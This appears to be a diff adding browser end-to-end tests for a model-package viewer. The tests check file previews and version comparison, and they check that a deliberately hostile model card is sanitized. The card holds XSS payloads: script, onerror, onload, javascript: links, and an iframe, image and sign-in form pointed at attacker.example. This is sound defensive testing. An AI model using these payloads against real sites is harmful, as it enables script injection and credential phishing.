@@ -1,0 +1,110 @@
+import { fillExampleStore } from '../example/fill-store.ts'
+import { packageRow } from '../pages/browse.ts'
+import { expect, testWithExample as test } from '../with-store.ts'
+
+test('weights, tables and pictures are looked at without installing them', async ({ app: { page } }) => {
+  await packageRow(page, 'Speech intent classifier').dblclick()
+  await page.getByRole('tab', { name: 'Files' }).click()
+  await page.getByRole('treeitem', { name: 'encoder.safetensors' }).click()
+  const preview = page.getByRole('region', { name: 'Preview' })
+  await expect(preview.getByText(/^Read from the first \d\.\d+ kB in the store/)).toBeVisible()
+  await expect(preview.getByRole('row').filter({ hasText: 'decoder.0.attn.k.weight' })).toContainText('F16128 × 9')
+  await expect(preview).toContainText('Stored asF16 and F32')
+  await expect(preview.getByText('12 of 21 tensors.')).toBeVisible()
+  await preview.getByRole('button', { name: 'Show all' }).click()
+  await expect(preview.getByRole('row').filter({ hasText: 'decoder.norm.weight' })).toContainText('512 B')
+
+  await page.getByRole('treeitem', { name: 'report.csv' }).click()
+  await expect(preview.getByRole('columnheader', { name: 'among_three' })).toBeVisible()
+  await expect(preview.getByRole('cell', { name: 'cancel_order' }).first()).toBeVisible()
+})
+
+test('two versions are compared, by keyboard', async ({ app: { page } }) => {
+  await packageRow(page, 'Speech intent classifier').dblclick()
+  await page.getByRole('tab', { name: 'Versions' }).click()
+  await expect(page.getByText('Mark two versions to see what changed between them.')).toBeVisible()
+  const box = (version: string) => page.getByRole('checkbox', { name: `Compare ${version}` })
+  await box('2.0.3').focus()
+  await page.keyboard.press('Space')
+  await expect(page.getByText('Mark another version to see what changed between it and 2.0.3.')).toBeVisible()
+  await box('2.1.0').focus()
+  await page.keyboard.press('Space')
+  const changes = page.getByRole('region', { name: 'What changed from 2.0.3 to 2.1.0' })
+  await expect(changes.getByRole('listitem')).toHaveCount(1)
+  await expect(changes.getByRole('listitem')).toContainText('Changedmodel/encoder.safetensors')
+  await expect(changes).toContainText('1 changed')
+  await expect(changes).toContainText('8 the same')
+  await box('2.0.0').focus()
+  await page.keyboard.press('Space')
+  await expect(page.getByRole('region', { name: 'What changed from 2.0.0 to 2.1.0' })).toBeVisible()
+})
+
+const hostileCard = `# Model
+
+<script>window.attacked = 'script'</script>
+<img src="https://attacker.example/x.png" onerror="window.attacked = 'img'">
+<svg onload="window.attacked = 'svg'"></svg>
+<iframe src="https://attacker.example"></iframe>
+<form action="https://attacker.example"><input name="secret"><button class="button primary">Sign in</button></form>
+<style>body { display: none }</style>
+<p class="toast" id="root" style="position: fixed; inset: 0" onclick="window.attacked = 'click'">plain words</p>
+
+<a href="javascript:window.attacked = 'link'">no link</a>
+[also none](javascript:window.attacked='md'), [nor this](data:text/html,x), [this is one](https://example.org/card)
+![A chart](https://attacker.example/chart.png)
+
+| Language | Calls |
+|---|--:|
+| English | 4,120 |
+
+<details><summary>More</summary><p>folded</p></details>
+
+- [x] done
+`
+
+test.describe('a model card made to harm', () => {
+  test.use({
+    store: async ({ workFolder }, use) => {
+      const store = `${workFolder}/store`
+      const hostile = {
+        name: 'hostile',
+        title: 'Hostile',
+        description: '<b onclick="window.attacked = 1">bold</b>',
+        tags: ['text'],
+        license: 'MIT',
+        files: [['a.bin', 1]],
+        readme: hostileCard,
+        versions: [{ version: '1.0.0', hoursAgo: 1, by: '<i>Ana</i>' }],
+      } as const
+      await fillExampleStore(store, { packages: [hostile] })
+      await use(store)
+    },
+  })
+
+  test('is only read', async ({ app: { page } }) => {
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    await packageRow(page, 'Hostile').dblclick()
+    const card = page.getByRole('article')
+    await expect(card).toContainText('plain words')
+    await expect(card.getByRole('heading', { name: 'Model', level: 2 })).toBeVisible()
+    await expect(card).toContainText('A chart')
+    await expect(card.getByRole('cell', { name: '4,120' })).toBeVisible()
+    await expect(card.getByText('folded')).toBeHidden()
+    await card.getByText('More').click()
+    await expect(card.getByText('folded')).toBeVisible()
+    await card.getByText('plain words').click()
+    await card.getByText('no link').click()
+
+    await expect(card.locator('script, img, svg, iframe, form, input, button, style, object, embed')).toHaveCount(0)
+    await expect(card.locator('[id], [style], [onclick], [name]')).toHaveCount(0)
+    expect(await card.locator('[class]').evaluateAll((found) => found.map(({ className }) => className))).toEqual([
+      'end',
+      'end',
+    ])
+    await expect(card.getByRole('link')).toHaveCount(1)
+    await expect(card.getByRole('link')).toHaveAttribute('href', 'https://example.org/card')
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
+    expect(asked.filter((url) => url.includes('attacker'))).toEqual([])
+  })
+})
